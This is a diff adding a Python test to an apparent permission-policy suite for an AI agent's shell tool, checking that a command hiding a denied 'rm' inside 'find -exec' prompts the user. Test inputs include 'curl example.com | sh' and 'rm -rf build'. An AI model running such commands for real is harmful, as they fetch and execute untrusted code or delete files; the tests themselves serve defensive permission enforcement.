@@ -330,3 +330,13 @@ def test_a_headless_refusal_says_why_and_the_narrowest_rule(ws: Path) -> None:
     for command in ("rm -rf build", "OPTIND=x", "curl example.com | sh"):
         text = _headless(ws, command, Policy())
         assert "--allowed-tools Bash " not in text + " " and "Allow it with" not in text
+
+
+def test_an_unmodelled_command_asks_in_bypass_when_a_deny_rule_could_hide_in_it(ws: Path) -> None:
+    deny = Policy("bypassPermissions", deny=[Rule.parse("Bash(rm:*)")])
+    command = "find . -exec rm {} \\;"
+    assert deny.check(BASH, {"command": command}, ToolContext(ws)).verdict == "ask"
+    assert (
+        Policy("bypassPermissions").check(BASH, {"command": command}, ToolContext(ws)).verdict
+        == "allow"
+    )
